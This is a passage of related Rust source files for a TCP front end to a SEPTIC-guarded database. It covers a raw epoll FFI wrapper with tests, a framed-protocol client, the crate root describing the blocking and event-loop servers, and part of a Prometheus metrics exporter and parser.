//! Raw `epoll` via FFI, deliberately not a dependency: the workspace is
//! self-contained (no crates.io access), and the event loop needs only
//! four syscalls — `epoll_create1`, `epoll_ctl`, `epoll_wait` and
//! `eventfd` for cross-thread wakeups. Everything above this module is
//! ordinary safe Rust over nonblocking `std::net` sockets.
//!
//! On non-Linux targets the constructors return
//! [`std::io::ErrorKind::Unsupported`]; callers fall back to the
//! blocking front end.

use std::io;
#[cfg(target_os = "linux")]
use std::os::fd::{AsRawFd, RawFd};
#[cfg(not(target_os = "linux"))]
type RawFd = i32;

/// Readable readiness.
pub const INTEREST_READ: u32 = sys::EPOLLIN | sys::EPOLLRDHUP;
/// Writable readiness.
pub const INTEREST_WRITE: u32 = sys::EPOLLOUT;

/// One readiness event: the registered token plus what fired.
#[derive(Debug, Clone, Copy)]
pub struct Event {
    /// The token supplied at registration.
    pub token: u64,
    /// Raw readiness bits.
    readiness: u32,
}

impl Event {
    /// The source has bytes to read (or a peer hang-up to observe, which
    /// a read will surface as EOF/error).
    #[must_use]
    pub fn is_readable(&self) -> bool {
        self.readiness & (sys::EPOLLIN | sys::EPOLLRDHUP | sys::EPOLLHUP | sys::EPOLLERR) != 0
    }

    /// The source can accept more bytes.
    #[must_use]
    pub fn is_writable(&self) -> bool {
        self.readiness & (sys::EPOLLOUT | sys::EPOLLHUP | sys::EPOLLERR) != 0
    }
}

/// Level-triggered epoll instance.
#[derive(Debug)]
pub struct Poller {
    epfd: RawFd,
}

impl Poller {
    /// Creates the epoll instance.
    ///
    /// # Errors
    ///
    /// `Unsupported` off Linux; otherwise the raw syscall failure.
    pub fn new() -> io::Result<Poller> {
        let epfd = sys::epoll_create()?;
        Ok(Poller { epfd })
    }

    /// Registers `fd` for `interest`, tagging events with `token`.
    /// `exclusive` requests `EPOLLEXCLUSIVE` — used for a listener shared
    /// by several reactor shards, so one accept-ready wake goes to one
    /// shard instead of thundering the herd.
    ///
    /// # Errors
    ///
    /// The raw `epoll_ctl` failure.
    #[cfg(target_os = "linux")]
    pub fn register(
        &self,
        fd: &impl AsRawFd,
        token: u64,
        interest: u32,
        exclusive: bool,
    ) -> io::Result<()> {
        let mut flags = interest;
        if exclusive {
            // The kernel rejects EPOLLEXCLUSIVE combined with EPOLLRDHUP
            // (EINVAL) — and a listener has no read-half to hang up.
            flags = (flags & !sys::EPOLLRDHUP) | sys::EPOLLEXCLUSIVE;
        }
        sys::epoll_ctl(self.epfd, sys::EPOLL_CTL_ADD, fd.as_raw_fd(), flags, token)
    }

    /// Changes the interest set of an already-registered `fd`.
    ///
    /// # Errors
    ///
    /// The raw `epoll_ctl` failure.
    #[cfg(target_os = "linux")]
    pub fn reregister(&self, fd: &impl AsRawFd, token: u64, interest: u32) -> io::Result<()> {
        sys::epoll_ctl(
            self.epfd,
            sys::EPOLL_CTL_MOD,
            fd.as_raw_fd(),
            interest,
            token,
        )
    }

    /// Removes `fd` from the interest set.
    ///
    /// # Errors
    ///
    /// The raw `epoll_ctl` failure.
    #[cfg(target_os = "linux")]
    pub fn deregister(&self, fd: &impl AsRawFd) -> io::Result<()> {
        sys::epoll_ctl(self.epfd, sys::EPOLL_CTL_DEL, fd.as_raw_fd(), 0, 0)
    }

    /// Non-Linux stub: unreachable in practice ([`Poller::new`] already
    /// failed), present so callers compile unconditionally.
    ///
    /// # Errors
    ///
    /// Always `Unsupported`.
    #[cfg(not(target_os = "linux"))]
    pub fn register<T>(
        &self,
        _fd: &T,
        _token: u64,
        _interest: u32,
        _exclusive: bool,
    ) -> io::Result<()> {
        Err(io::Error::new(
            io::ErrorKind::Unsupported,
            "epoll requires Linux",
        ))
    }

    /// Non-Linux stub of [`Poller::reregister`].
    ///
    /// # Errors
    ///
    /// Always `Unsupported`.
    #[cfg(not(target_os = "linux"))]
    pub fn reregister<T>(&self, _fd: &T, _token: u64, _interest: u32) -> io::Result<()> {
        Err(io::Error::new(
            io::ErrorKind::Unsupported,
            "epoll requires Linux",
        ))
    }

    /// Non-Linux stub of [`Poller::deregister`].
    ///
    /// # Errors
    ///
    /// Always `Unsupported`.
    #[cfg(not(target_os = "linux"))]
    pub fn deregister<T>(&self, _fd: &T) -> io::Result<()> {
        Err(io::Error::new(
            io::ErrorKind::Unsupported,
            "epoll requires Linux",
        ))
    }

    /// Blocks until readiness or `timeout_ms` (`-1` = forever), appending
    /// fired events to `out`.
    ///
    /// # Errors
    ///
    /// The raw `epoll_wait` failure (`EINTR` is retried internally).
    pub fn wait(&self, out: &mut Vec<Event>, timeout_ms: i32) -> io::Result<()> {
        sys::epoll_wait(self.epfd, out, timeout_ms)
    }
}

impl Drop for Poller {
    fn drop(&mut self) {
        sys::close_fd(self.epfd);
    }
}

// The poller is only ever driven by its owning reactor thread, but the
// handle moves into that thread at spawn.
unsafe impl Send for Poller {}

/// Cross-thread wakeup for a reactor parked in [`Poller::wait`]: an
/// `eventfd` registered in the poller like any other source.
#[derive(Debug)]
pub struct Waker {
    efd: RawFd,
}

impl Waker {
    /// Creates the eventfd and registers it with `poller` under `token`.
    ///
    /// # Errors
    ///
    /// `Unsupported` off Linux; otherwise the raw syscall failure.
    pub fn new(poller: &Poller, token: u64) -> io::Result<Waker> {
        let efd = sys::eventfd_create()?;
        sys::epoll_ctl(poller.epfd, sys::EPOLL_CTL_ADD, efd, sys::EPOLLIN, token)?;
        Ok(Waker { efd })
    }

    /// Wakes the reactor. Safe from any thread; coalesces with pending
    /// wakes.
    pub fn wake(&self) {
        sys::eventfd_write(self.efd);
    }

    /// Drains pending wakes (reactor side, after the token fires).
    pub fn drain(&self) {
        sys::eventfd_read(self.efd);
    }
}

impl Drop for Waker {
    fn drop(&mut self) {
        sys::close_fd(self.efd);
    }
}

unsafe impl Send for Waker {}
unsafe impl Sync for Waker {}

#[cfg(target_os = "linux")]
mod sys {
    use super::Event;
    use std::io;
    use std::os::fd::RawFd;
    use std::os::raw::c_int;

    pub const EPOLLIN: u32 = 0x001;
    pub const EPOLLOUT: u32 = 0x004;
    pub const EPOLLERR: u32 = 0x008;
    pub const EPOLLHUP: u32 = 0x010;
    pub const EPOLLRDHUP: u32 = 0x2000;
    pub const EPOLLEXCLUSIVE: u32 = 1 << 28;
    pub const EPOLL_CTL_ADD: c_int = 1;
    pub const EPOLL_CTL_DEL: c_int = 2;
    pub const EPOLL_CTL_MOD: c_int = 3;
    const EPOLL_CLOEXEC: c_int = 0o2000000;
    const EFD_CLOEXEC: c_int = 0o2000000;
    const EFD_NONBLOCK: c_int = 0o4000;

    /// Kernel `struct epoll_event`; packed on x86 per the ABI.
    #[repr(C)]
    #[cfg_attr(any(target_arch = "x86", target_arch = "x86_64"), repr(packed))]
    #[derive(Clone, Copy)]
    struct EpollEvent {
        events: u32,
        data: u64,
    }

    mod ffi {
        use super::EpollEvent;
        use std::os::raw::{c_int, c_uint, c_void};
        extern "C" {
            pub fn epoll_create1(flags: c_int) -> c_int;
            pub fn epoll_ctl(epfd: c_int, op: c_int, fd: c_int, event: *mut EpollEvent) -> c_int;
            pub fn epoll_wait(
                epfd: c_int,
                events: *mut EpollEvent,
                maxevents: c_int,
                timeout: c_int,
            ) -> c_int;
            pub fn eventfd(initval: c_uint, flags: c_int) -> c_int;
            pub fn read(fd: c_int, buf: *mut c_void, count: usize) -> isize;
            pub fn write(fd: c_int, buf: *const c_void, count: usize) -> isize;
            pub fn close(fd: c_int) -> c_int;
        }
    }

    pub fn epoll_create() -> io::Result<RawFd> {
        // SAFETY: plain syscall, no pointers involved.
        let fd = unsafe { ffi::epoll_create1(EPOLL_CLOEXEC) };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(fd)
    }

    pub fn epoll_ctl(epfd: RawFd, op: c_int, fd: RawFd, events: u32, token: u64) -> io::Result<()> {
        let mut ev = EpollEvent {
            events,
            data: token,
        };
        // SAFETY: `ev` outlives the call; the kernel copies it.
        let rc = unsafe { ffi::epoll_ctl(epfd, op, fd, &mut ev) };
        if rc < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }

    pub fn epoll_wait(epfd: RawFd, out: &mut Vec<Event>, timeout_ms: i32) -> io::Result<()> {
        const MAX_EVENTS: usize = 256;
        let mut buf = [EpollEvent { events: 0, data: 0 }; MAX_EVENTS];
        let n = loop {
            // SAFETY: `buf` is a valid writable array of MAX_EVENTS entries.
            let rc =
                unsafe { ffi::epoll_wait(epfd, buf.as_mut_ptr(), MAX_EVENTS as c_int, timeout_ms) };
            if rc >= 0 {
                break rc as usize;
            }
            let err = io::Error::last_os_error();
            if err.kind() != io::ErrorKind::Interrupted {
                return Err(err);
            }
        };
        for ev in &buf[..n] {
            // Copy out of the (possibly packed) struct before use.
            let readiness = ev.events;
            let token = ev.data;
            out.push(Event { token, readiness });
        }
        Ok(())
    }

    pub fn eventfd_create() -> io::Result<RawFd> {
        // SAFETY: plain syscall, no pointers involved.
        let fd = unsafe { ffi::eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK) };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(fd)
    }

    pub fn eventfd_write(fd: RawFd) {
        let one: u64 = 1;
        // SAFETY: writes 8 bytes from a live stack value.
        let _ = unsafe { ffi::write(fd, (&raw const one).cast(), 8) };
    }

    pub fn eventfd_read(fd: RawFd) {
        let mut val: u64 = 0;
        // SAFETY: reads 8 bytes into a live stack value.
        let _ = unsafe { ffi::read(fd, (&raw mut val).cast(), 8) };
    }

    pub fn close_fd(fd: RawFd) {
        // SAFETY: fd is owned by the caller and closed exactly once.
        let _ = unsafe { ffi::close(fd) };
    }
}

#[cfg(not(target_os = "linux"))]
mod sys {
    //! Non-Linux stubs: constructors fail with `Unsupported`, so
    //! `serve_event_loop` reports the platform gap instead of compiling
    //! the workspace out.
    use super::{Event, RawFd};
    use std::io;

    pub const EPOLLIN: u32 = 0x001;
    pub const EPOLLOUT: u32 = 0x004;
    pub const EPOLLERR: u32 = 0x008;
    pub const EPOLLHUP: u32 = 0x010;
    pub const EPOLLRDHUP: u32 = 0x2000;
    pub const EPOLL_CTL_ADD: i32 = 1;

    fn unsupported() -> io::Error {
        io::Error::new(io::ErrorKind::Unsupported, "epoll requires Linux")
    }

    pub fn epoll_create() -> io::Result<RawFd> {
        Err(unsupported())
    }

    pub fn epoll_ctl(_: RawFd, _: i32, _: RawFd, _: u32, _: u64) -> io::Result<()> {
        Err(unsupported())
    }

    pub fn epoll_wait(_: RawFd, _: &mut Vec<Event>, _: i32) -> io::Result<()> {
        Err(unsupported())
    }

    pub fn eventfd_create() -> io::Result<RawFd> {
        Err(unsupported())
    }

    pub fn eventfd_write(_: RawFd) {}

    pub fn eventfd_read(_: RawFd) {}

    pub fn close_fd(_: RawFd) {}
}

#[cfg(all(test, target_os = "linux"))]
mod tests {
    use super::*;
    use std::io::Write;
    use std::net::{TcpListener, TcpStream};

    #[test]
    fn poller_sees_readable_sockets() {
        let poller = Poller::new().expect("epoll");
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let mut client = TcpStream::connect(listener.local_addr().unwrap()).expect("connect");
        let (server_side, _) = listener.accept().expect("accept");
        server_side.set_nonblocking(true).expect("nonblocking");
        poller
            .register(&server_side, 7, INTEREST_READ, false)
            .expect("register");

        // Nothing sent yet: a short wait returns no events.
        let mut events = Vec::new();
        poller.wait(&mut events, 0).expect("wait");
        assert!(events.iter().all(|e| e.token != 7 || !e.is_readable()));

        client.write_all(b"x").expect("write");
        client.flush().expect("flush");
        let mut events = Vec::new();
        poller.wait(&mut events, 1000).expect("wait");
        assert!(
            events.iter().any(|e| e.token == 7 && e.is_readable()),
            "readable event must fire"
        );
    }

    #[test]
    fn waker_unparks_a_wait() {
        let poller = Poller::new().expect("epoll");
        let waker = Waker::new(&poller, 1).expect("eventfd");
        waker.wake();
        let mut events = Vec::new();
        poller.wait(&mut events, 1000).expect("wait");
        assert!(events.iter().any(|e| e.token == 1 && e.is_readable()));
        waker.drain();
        // Drained: the next zero-timeout wait is quiet.
        let mut events = Vec::new();
        poller.wait(&mut events, 0).expect("wait");
        assert!(events.iter().all(|e| e.token != 1));
    }

    #[test]
    fn interest_can_be_switched_to_write() {
        let poller = Poller::new().expect("epoll");
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let _client = TcpStream::connect(listener.local_addr().unwrap()).expect("connect");
        let (server_side, _) = listener.accept().expect("accept");
        server_side.set_nonblocking(true).expect("nonblocking");
        poller
            .register(&server_side, 3, INTEREST_READ, false)
            .expect("register");
        poller
            .reregister(&server_side, 3, INTEREST_READ | INTEREST_WRITE)
            .expect("reregister");
        let mut events = Vec::new();
        poller.wait(&mut events, 1000).expect("wait");
        assert!(
            events.iter().any(|e| e.token == 3 && e.is_writable()),
            "an idle socket is immediately writable"
        );
        poller.deregister(&server_side).expect("deregister");
    }
}
