//! Blocking client for the framed TCP front end.
//!
//! One [`NetClient`] is one connection — one server-side session, same
//! as the in-process `Server::connect()`. Benchlab's closed-loop TCP
//! workers each hold one.

use std::io;
use std::net::{TcpStream, ToSocketAddrs};
use std::time::Duration;

use septic_dbms::Value;

use crate::frame::{
    read_frame, write_frame, FrameError, QueryRequest, Request, Response, SessionOpts, WireResult,
    DEFAULT_MAX_FRAME_LEN, PROTOCOL_VERSION,
};

/// What went wrong with a client call.
#[derive(Debug)]
pub enum ClientError {
    /// Socket-level failure (connect, send, or the peer vanished).
    Io(io::Error),
    /// The response frame could not be read or decoded.
    Frame(FrameError),
    /// SEPTIC blocked the query (the attack verdict, delivered intact
    /// over the wire).
    Blocked { reason: String },
    /// The guard itself failed and the server's failure policy refused
    /// the query.
    GuardFailure { reason: String },
    /// The DBMS rejected the query (parse error, unknown table, ...).
    Server { message: String },
    /// Admission control refused us: accept queue full or pipelining
    /// limit exceeded. Back off and retry.
    Busy { reason: String },
    /// The server answered with a frame that makes no sense for the
    /// request (protocol bug or version skew).
    Unexpected { got: String },
}

impl std::fmt::Display for ClientError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ClientError::Io(e) => write!(f, "i/o error: {e}"),
            ClientError::Frame(e) => write!(f, "frame error: {e}"),
            ClientError::Blocked { reason } => write!(f, "blocked by SEPTIC: {reason}"),
            ClientError::GuardFailure { reason } => write!(f, "guard failure: {reason}"),
            ClientError::Server { message } => write!(f, "server error: {message}"),
            ClientError::Busy { reason } => write!(f, "server busy: {reason}"),
            ClientError::Unexpected { got } => write!(f, "unexpected response: {got}"),
        }
    }
}

impl std::error::Error for ClientError {}

impl From<io::Error> for ClientError {
    fn from(e: io::Error) -> Self {
        ClientError::Io(e)
    }
}

impl From<FrameError> for ClientError {
    fn from(e: FrameError) -> Self {
        match e {
            FrameError::Io(e) => ClientError::Io(e),
            other => ClientError::Frame(other),
        }
    }
}

impl ClientError {
    /// True when admission control shed us (retry later).
    #[must_use]
    pub fn is_busy(&self) -> bool {
        matches!(self, ClientError::Busy { .. })
    }

    /// True when SEPTIC blocked the query — the verdict a wire-level
    /// attack harness asserts on.
    #[must_use]
    pub fn is_blocked(&self) -> bool {
        matches!(self, ClientError::Blocked { .. })
    }
}

/// A connected client session.
#[derive(Debug)]
pub struct NetClient {
    stream: TcpStream,
    max_frame_len: u32,
}

impl NetClient {
    /// Connects and performs the `Hello` handshake. Fails fast with
    /// [`ClientError::Busy`] when the server sheds the connection at
    /// the accept queue.
    ///
    /// # Errors
    ///
    /// Connect/handshake failures as [`ClientError`].
    pub fn connect(addr: impl ToSocketAddrs) -> Result<NetClient, ClientError> {
        Self::connect_with(addr, SessionOpts::default(), DEFAULT_MAX_FRAME_LEN)
    }

    /// [`NetClient::connect`] with explicit session options and frame
    /// size limit.
    ///
    /// # Errors
    ///
    /// Connect/handshake failures as [`ClientError`].
    pub fn connect_with(
        addr: impl ToSocketAddrs,
        opts: SessionOpts,
        max_frame_len: u32,
    ) -> Result<NetClient, ClientError> {
        let stream = TcpStream::connect(addr)?;
        stream.set_nodelay(true).ok();
        let mut client = NetClient {
            stream,
            max_frame_len,
        };
        // When admission control sheds the connection, the server writes
        // one `ServerBusy` frame and closes — which can surface here as a
        // *send* failure (broken pipe) before the pending frame is read.
        // So on a failed handshake send, still try to read the reject.
        let send_err = client
            .send(&Request::Hello {
                version: PROTOCOL_VERSION,
                opts,
            })
            .err();
        match (client.recv(), send_err) {
            (Ok(Response::Hello { .. }), None) => Ok(client),
            (Ok(Response::ServerBusy { reason }), _) => Err(ClientError::Busy { reason }),
            (Ok(other), None) => Err(ClientError::Unexpected {
                got: format!("{other:?}"),
            }),
            (_, Some(err)) => Err(err),
            (Err(err), None) => Err(err),
        }
    }

    /// Caps how long a single response read may block.
    ///
    /// # Errors
    ///
    /// Propagates the socket option failure.
    pub fn set_read_timeout(&self, timeout: Option<Duration>) -> io::Result<()> {
        self.stream.set_read_timeout(timeout)
    }

    /// Executes one SQL text and returns the wire-level result.
    ///
    /// # Errors
    ///
    /// [`ClientError::Blocked`] when SEPTIC flags the query; transport
    /// and server errors otherwise.
    pub fn query(&mut self, sql: &str) -> Result<WireResult, ClientError> {
        self.send(&Request::Query(QueryRequest {
            sql: sql.to_string(),
            params: None,
        }))?;
        Self::expect_result(self.recv()?)
    }

    /// Executes a prepared statement with `?` placeholders bound to
    /// `params`.
    ///
    /// # Errors
    ///
    /// Same surface as [`NetClient::query`].
    pub fn query_prepared(
        &mut self,
        sql: &str,
        params: &[Value],
    ) -> Result<WireResult, ClientError> {
        self.send(&Request::Query(QueryRequest {
            sql: sql.to_string(),
            params: Some(params.to_vec()),
        }))?;
        Self::expect_result(self.recv()?)
    }

    /// Pipelines a batch of queries in one frame and collects one
    /// outcome per query (a blocked query does not abort the batch).
    ///
    /// # Errors
    ///
    /// [`ClientError::Busy`] when the batch exceeds the server's
    /// pipelining limit; transport errors otherwise.
    pub fn batch(
        &mut self,
        queries: &[QueryRequest],
    ) -> Result<Vec<Result<WireResult, ClientError>>, ClientError> {
        self.send(&Request::Batch(queries.to_vec()))?;
        let first = self.recv()?;
        if let Response::ServerBusy { reason } = first {
            return Err(ClientError::Busy { reason });
        }
        let mut outcomes = Vec::with_capacity(queries.len());
        outcomes.push(Self::expect_result(first));
        for _ in 1..queries.len() {
            outcomes.push(Self::expect_result(self.recv()?));
        }
        Ok(outcomes)
    }

    /// Liveness probe.
    ///
    /// # Errors
    ///
    /// Transport failures, or [`ClientError::Unexpected`] for a
    /// non-`Pong` reply.
    pub fn ping(&mut self) -> Result<(), ClientError> {
        self.send(&Request::Ping)?;
        match self.recv()? {
            Response::Pong => Ok(()),
            other => Err(ClientError::Unexpected {
                got: format!("{other:?}"),
            }),
        }
    }

    fn send(&mut self, request: &Request) -> Result<(), ClientError> {
        write_frame(&mut self.stream, request, self.max_frame_len)?;
        Ok(())
    }

    fn recv(&mut self) -> Result<Response, ClientError> {
        Ok(read_frame(&mut self.stream, self.max_frame_len)?)
    }

    fn expect_result(response: Response) -> Result<WireResult, ClientError> {
        match response {
            Response::Result(r) => Ok(r),
            Response::Blocked { reason } => Err(ClientError::Blocked { reason }),
            Response::GuardFailure { reason } => Err(ClientError::GuardFailure { reason }),
            Response::Error { message } => Err(ClientError::Server { message }),
            Response::ServerBusy { reason } => Err(ClientError::Busy { reason }),
            other => Err(ClientError::Unexpected {
                got: format!("{other:?}"),
            }),
        }
    }
}
