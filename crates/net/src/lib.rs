//! # septic-net — wire-level serving for the SEPTIC-guarded DBMS
//!
//! Everything before this crate talked to the DBMS in-process:
//! `Server::connect()` hands back a `Connection` and callers invoke
//! `execute` directly. That is fine for unit tests and benchmarks, but
//! the paper's deployment story is a *server*: application tiers reach
//! the guarded DBMS over a socket, and the SEPTIC verdict (executed /
//! blocked / guard-failure) has to survive the trip.
//!
//! This crate serves that wire level through two interchangeable front
//! ends over one protocol:
//!
//! - [`frame`] — a length-prefixed framed protocol. Each frame is a
//!   4-byte big-endian payload length followed by a JSON document; the
//!   length is validated against a cap *before* any allocation, so an
//!   adversarial header cannot balloon memory.
//! - [`server`] — the blocking front end: an accept loop feeding a
//!   **bounded** worker pool, one thread per in-flight connection.
//!   Admission control is explicit: a full accept queue sheds the
//!   connection with a [`Response::ServerBusy`] frame instead of
//!   queueing unboundedly, and oversized `Batch` frames are refused at
//!   the pipelining limit. Handler panics are contained per connection
//!   (`catch_unwind` + drop-guard gauge accounting), extending the PR-1
//!   failure policy to the wire: no client behavior may kill the
//!   listener.
//! - [`event_loop`] — the epoll front end: reactor shards with
//!   per-connection state machines ([`conn`]) over the same codec and
//!   the same dbms worker-pool execution, so an idle connection costs
//!   bytes instead of a thread. [`poll`] is the raw-FFI epoll layer
//!   underneath. Same admission control, same panic containment, same
//!   metrics.
//! - [`client`] — the blocking client library benchlab's `--tcp`
//!   closed-loop drivers use, mapping wire responses back onto the
//!   executed/blocked/failed verdict surface.
//!
//! [`serve_front_end`] picks a front end by [`FrontEndKind`]; both
//! return through [`FrontEndHandle`], so harnesses (tests, benches, CI)
//! run the identical workload against each. All wire metrics register
//! into the dbms server's own `MetricsRegistry`, so
//! `Server::prometheus()` exports the socket layer alongside the guard
//! pipeline with no extra plumbing.

use std::io;
use std::net::{SocketAddr, ToSocketAddrs};
use std::sync::Arc;

pub mod client;
pub mod conn;
pub mod event_loop;
pub mod frame;
pub mod poll;
pub mod server;

pub use client::{ClientError, NetClient};
pub use event_loop::{serve_event_loop, EventLoopHandle};
pub use frame::{
    read_frame, write_frame, FrameError, QueryRequest, Request, Response, SessionOpts, WireOutput,
    WireResult, DEFAULT_MAX_FRAME_LEN, PROTOCOL_VERSION,
};
pub use server::{serve, NetServerConfig, NetServerHandle};

/// Which front end serves the sockets. The protocol, admission control
/// and verdict surface are identical; only the concurrency model
/// differs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FrontEndKind {
    /// Thread-per-in-flight-connection: accept loop + bounded worker
    /// pool ([`serve`]).
    Blocking,
    /// Epoll reactor shards + worker pool ([`serve_event_loop`]);
    /// Linux only.
    EventLoop,
}

impl FrontEndKind {
    /// Both front ends, for dual-harness tests and benches.
    #[must_use]
    pub fn all() -> [FrontEndKind; 2] {
        [FrontEndKind::Blocking, FrontEndKind::EventLoop]
    }

    /// Stable label for metrics rows and test names.
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            FrontEndKind::Blocking => "blocking",
            FrontEndKind::EventLoop => "event-loop",
        }
    }
}

impl std::fmt::Display for FrontEndKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

/// A running front end of either kind.
#[derive(Debug)]
pub enum FrontEndHandle {
    /// The blocking front end.
    Blocking(NetServerHandle),
    /// The event-loop front end.
    EventLoop(EventLoopHandle),
}

impl FrontEndHandle {
    /// The bound address (useful with port 0).
    #[must_use]
    pub fn addr(&self) -> SocketAddr {
        match self {
            FrontEndHandle::Blocking(h) => h.addr(),
            FrontEndHandle::EventLoop(h) => h.addr(),
        }
    }

    /// Connections currently queued or being served.
    #[must_use]
    pub fn active_connections(&self) -> u64 {
        match self {
            FrontEndHandle::Blocking(h) => h.active_connections(),
            FrontEndHandle::EventLoop(h) => h.active_connections(),
        }
    }

    /// The dbms server this front end serves.
    #[must_use]
    pub fn server(&self) -> &Arc<septic_dbms::Server> {
        match self {
            FrontEndHandle::Blocking(h) => h.server(),
            FrontEndHandle::EventLoop(h) => h.server(),
        }
    }

    /// Threads the front end runs, fixed at serve time.
    #[must_use]
    pub fn thread_count(&self) -> usize {
        match self {
            FrontEndHandle::Blocking(h) => h.thread_count(),
            FrontEndHandle::EventLoop(h) => h.thread_count(),
        }
    }

    /// Shuts the front end down and joins its threads.
    pub fn shutdown(self) {
        match self {
            FrontEndHandle::Blocking(h) => h.shutdown(),
            FrontEndHandle::EventLoop(h) => h.shutdown(),
        }
    }
}

/// Serves `server` on `addr` with the chosen front end.
///
/// # Errors
///
/// Bind failures; `Unsupported` for [`FrontEndKind::EventLoop`] off
/// Linux.
pub fn serve_front_end(
    kind: FrontEndKind,
    server: Arc<septic_dbms::Server>,
    addr: impl ToSocketAddrs,
    config: NetServerConfig,
) -> io::Result<FrontEndHandle> {
    match kind {
        FrontEndKind::Blocking => Ok(FrontEndHandle::Blocking(serve(server, addr, config)?)),
        FrontEndKind::EventLoop => Ok(FrontEndHandle::EventLoop(serve_event_loop(
            server, addr, config,
        )?)),
    }
}
