//! # septic-net — wire-level serving for the SEPTIC-guarded DBMS
//!
//! Everything before this crate talked to the DBMS in-process:
//! `Server::connect()` hands back a `Connection` and callers invoke
//! `execute` directly. That is fine for unit tests and benchmarks, but
//! the paper's deployment story is a *server*: application tiers reach
//! the guarded DBMS over a socket, and the SEPTIC verdict (executed /
//! blocked / guard-failure) has to survive the trip.
//!
//! This crate adds that wire level in three parts:
//!
//! - [`frame`] — a length-prefixed framed protocol. Each frame is a
//!   4-byte big-endian payload length followed by a JSON document; the
//!   length is validated against a cap *before* any allocation, so an
//!   adversarial header cannot balloon memory.
//! - [`server`] — a blocking accept loop feeding a **bounded** worker
//!   pool. Admission control is explicit: a full accept queue sheds the
//!   connection with a [`Response::ServerBusy`] frame instead of
//!   queueing unboundedly, and oversized `Batch` frames are refused at
//!   the pipelining limit. Handler panics are contained per connection
//!   (`catch_unwind` + drop-guard gauge accounting), extending the PR-1
//!   failure policy to the wire: no client behavior may kill the
//!   listener.
//! - [`client`] — the blocking client library benchlab's `--tcp`
//!   closed-loop drivers use, mapping wire responses back onto the
//!   executed/blocked/failed verdict surface.
//!
//! All wire metrics register into the dbms server's own
//! `MetricsRegistry`, so `Server::prometheus()` exports the socket
//! layer alongside the guard pipeline with no extra plumbing.

pub mod client;
pub mod frame;
pub mod server;

pub use client::{ClientError, NetClient};
pub use frame::{
    read_frame, write_frame, FrameError, QueryRequest, Request, Response, SessionOpts, WireOutput,
    WireResult, DEFAULT_MAX_FRAME_LEN, PROTOCOL_VERSION,
};
pub use server::{serve, NetServerConfig, NetServerHandle};
