//! Prometheus text exposition: render a [`MetricsSnapshot`] and parse
//! the result back. The parser exists so CI can validate the export
//! end to end (scrape → parse → compare against golden counts) without
//! a real Prometheus server in the loop.

use crate::histogram::bucket_bounds_us;
use crate::registry::MetricsSnapshot;
use std::collections::BTreeMap;

/// Split a registry name into `(family, labels)` where `labels` is the
/// inside of an optional trailing `{...}`.
fn split_name(name: &str) -> (&str, Option<&str>) {
    match name.find('{') {
        Some(i) if name.ends_with('}') => (&name[..i], Some(&name[i + 1..name.len() - 1])),
        _ => (name, None),
    }
}

/// Build a series name `family{existing,extra}` from its parts.
fn series(family: &str, labels: Option<&str>, extra: Option<&str>) -> String {
    match (labels, extra) {
        (None, None) => family.to_string(),
        (Some(l), None) => format!("{family}{{{l}}}"),
        (None, Some(e)) => format!("{family}{{{e}}}"),
        (Some(l), Some(e)) => format!("{family}{{{l},{e}}}"),
    }
}

/// Extract the value of `label` from a series name such as
/// `septic_stage_duration_microseconds{stage="id_gen"}`.
pub fn label_value<'a>(name: &'a str, label: &str) -> Option<&'a str> {
    let (_, labels) = split_name(name);
    for pair in labels?.split(',') {
        let (k, v) = pair.split_once('=')?;
        if k.trim() == label {
            return Some(v.trim().trim_matches('"'));
        }
    }
    None
}

/// Render a snapshot in Prometheus text exposition format.
///
/// Counters become `family value` series; histograms become cumulative
/// `family_bucket{le="..."}` series plus `family_sum` / `family_count`.
/// Within the rendered text `family_count` always equals the
/// `le="+Inf"` bucket, as Prometheus requires.
pub fn render_prometheus(snapshot: &MetricsSnapshot) -> String {
    let mut out = String::new();
    let mut last_family = String::new();
    for c in &snapshot.counters {
        let (family, labels) = split_name(&c.name);
        if family != last_family {
            out.push_str(&format!("# TYPE {family} counter\n"));
            last_family = family.to_string();
        }
        out.push_str(&format!("{} {}\n", series(family, labels, None), c.value));
    }
    let bounds = bucket_bounds_us();
    for h in &snapshot.histograms {
        let (family, labels) = split_name(&h.name);
        if family != last_family {
            out.push_str(&format!("# TYPE {family} histogram\n"));
            last_family = family.to_string();
        }
        let mut cumulative = 0u64;
        for (i, bucket) in h.buckets.iter().enumerate() {
            cumulative += bucket;
            let le = if i < bounds.len() {
                bounds[i].to_string()
            } else {
                "+Inf".to_string()
            };
            let extra = format!("le=\"{le}\"");
            out.push_str(&format!(
                "{} {}\n",
                series(&format!("{family}_bucket"), labels, Some(&extra)),
                cumulative
            ));
        }
        out.push_str(&format!(
            "{} {}\n",
            series(&format!("{family}_sum"), labels, None),
            h.sum_us
        ));
        out.push_str(&format!(
            "{} {}\n",
            series(&format!("{family}_count"), labels, None),
            cumulative
        ));
    }
    out
}

/// Parse Prometheus text exposition into `series name -> value`.
///
/// Comment (`#`) and blank lines are skipped; anything else must be
/// `name[{labels}] value` or the whole text is rejected — CI treats a
/// parse failure as a broken exporter.
pub fn parse_prometheus(text: &str) -> Result<BTreeMap<String, f64>, String> {
    let mut out = BTreeMap::new();
    for (lineno, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        // The metric name may contain spaces only inside a label set.
        let split_at = match line.find('{') {
            Some(open) => {
                let close = line[open..]
                    .find('}')
                    .map(|i| open + i)
                    .ok_or_else(|| format!("line {}: unclosed label set", lineno + 1))?;
                close + 1
            }
            None => line
                .find(' ')
                .ok_or_else(|| format!("line {}: no value", lineno + 1))?,
        };
        let (name, rest) = line.split_at(split_at);
        let value: f64 = rest
            .trim()
            .parse()
            .map_err(|_| format!("line {}: bad value {:?}", lineno + 1, rest.trim()))?;
        if name.is_empty()
            || !name
                .chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        {
            return Err(format!("line {}: bad metric name {name:?}", lineno + 1));
        }
